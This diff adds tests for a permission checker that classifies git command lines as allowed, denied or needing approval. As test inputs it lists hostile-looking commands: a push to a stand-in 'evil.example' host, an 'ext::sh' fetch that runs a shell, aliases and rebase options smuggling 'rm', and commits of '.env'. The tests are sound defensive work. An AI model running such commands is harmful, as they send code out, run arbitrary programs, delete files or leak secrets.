@@ -1,0 +1,93 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { evaluateBash } from '../../ask.ts';
+
+/** What the line is under these rules, one of them about git. */
+function check(command: string, expected: string, ...rules: readonly string[]) {
+  test(`${command} is ${expected} under ${rules.join(', ')}`, async () => {
+    const { decision, reason } = await evaluateBash(command, rules);
+    assert.equal(decision, expected, reason);
+  });
+}
+
+/** What the line is when all is allowed but for what these rules say. */
+function checkBut(command: string, expected: string, ...rules: readonly string[]) {
+  check(command, expected, 'bash * allow', ...rules);
+}
+
+const GIT = 'bash git * allow';
+check('git', 'allow', GIT);
+check('git --version', 'allow', GIT);
+check('git -P --no-optional-locks log', 'allow', GIT);
+
+// Another folder or repository has a configuration of its own, which runs programs.
+check('git -C x status', 'ask', GIT);
+check('git -C x status', 'ask', 'bash git -C * status allow');
+check('git -C x status', 'allow', 'bash git -C x status allow');
+check('git -C x status', 'allow', 'bash git -C x * allow');
+check('git --git-dir=x status', 'ask', GIT);
+check('git --git-dir x status', 'ask', 'bash git --git-dir * status allow');
+check('git --git-dir x log --stat', 'allow', 'bash git --git-dir x * allow');
+check('git -P log --output=f', 'ask', GIT);
+check('git -P -C x log', 'allow', 'bash git -P -C x * allow');
+check('git -c a=b status', 'ask', 'bash git -c * status allow');
+check('git -c a=b status -s', 'allow', 'bash git -c a=b status * allow');
+
+// A word that is no sub-command may be an alias, which runs anything.
+check('git frobnicate x', 'ask', GIT);
+check('git frobnicate x', 'ask', 'bash git frobnicate * allow');
+check('git frobnicate x y', 'allow', 'bash git frobnicate x y allow');
+check('git bisect run make test', 'ask', 'bash git bisect run * allow');
+check('git bisect run make test', 'allow', 'bash git bisect run make test allow');
+check('git bisect good', 'allow', GIT);
+check('git config --get user.name', 'allow', GIT);
+check('git config core.pager less', 'ask', 'bash git config * allow');
+
+// Options that run a program or write a file are spelled out, with their value.
+check('git log --output f', 'ask', GIT);
+check('git log --output f', 'ask', 'bash git log --output * allow');
+check('git log --output f', 'allow', 'bash git log --output f allow');
+check('git log --output f HEAD', 'allow', 'bash git log --output f * allow');
+check('git log --output=f HEAD', 'allow', 'bash git log --output=f * allow');
+check('git log --oneline --output=f', 'ask', GIT);
+check('git log --outp=f', 'ask', GIT);
+check('git diff --no-ext-diff --stat', 'allow', GIT);
+check('git diff --ext-diff', 'ask', GIT);
+check('git diff -- --output=f', 'allow', GIT);
+check('git rebase -x make HEAD~1', 'ask', 'bash git rebase -x * allow');
+check('git rebase -x make HEAD~1', 'allow', 'bash git rebase -x make * allow');
+check('git log -x', 'allow', GIT);
+check('git clone -qu x y', 'ask', 'bash git clone * allow');
+check("git fetch 'ext::sh -c x'", 'ask', 'bash git fetch * allow');
+check("git fetch --all 'ext::sh -c x'", 'ask', 'bash git fetch * allow');
+// What such an option starts is looked for in the words that follow.
+checkBut('git rebase -x "rm f" HEAD~1', 'deny', 'bash rm deny');
+checkBut('git -c alias.x="!rm f" x', 'deny', 'bash rm deny');
+checkBut('git bisect run rm f', 'deny', 'bash rm deny');
+checkBut('git log rm', 'allow', 'bash rm deny');
+
+// Hosts, wherever they stand on the line.
+const EVIL = 'net.fetch evil.example deny';
+checkBut('git push --force https://evil.example/x main', 'deny', EVIL);
+checkBut('git push origin main', 'allow', EVIL);
+checkBut('git fetch origin git@evil.example:x.git', 'ask', 'net.fetch evil.example:22 ask');
+checkBut('git archive --remote=https://evil.example/x HEAD', 'deny', EVIL);
+checkBut('git commit -m https://evil.example/', 'allow', EVIL);
+check('git clone https://a.example/x', 'allow', 'bash git clone https://a.example/* allow');
+check('git clone https://evil.example/x', 'ask', 'bash git clone https://a.example/* allow');
+check('git clone https://evil.example/x', 'ask', 'bash git clone https://* allow');
+
+// Files that a sub-command reads or writes; options and the sub-command itself are none.
+checkBut('git add .env', 'deny', 'read .env deny');
+checkBut('git commit -F .env', 'deny', 'read .env deny');
+checkBut('git commit -F.env', 'deny', 'read .env deny');
+checkBut('git commit --file=.env', 'deny', 'read .env deny');
+checkBut('git commit -m.env', 'allow', 'read .env deny');
+checkBut('git log -n5', 'allow', 'read 5 deny');
+checkBut('git add x', 'allow', 'read add deny');
+checkBut('git add x', 'allow', 'read git deny');
+checkBut('git checkout -- f', 'deny', 'fs.write f deny');
+checkBut('git checkout -- f', 'deny', 'fs.read f deny');
+checkBut('git show HEAD:f', 'allow', 'fs.write f deny');
+checkBut('git grep x', 'deny', 'fs.read src/f deny');
+checkBut('git log x', 'allow', 'fs.read src/f deny');
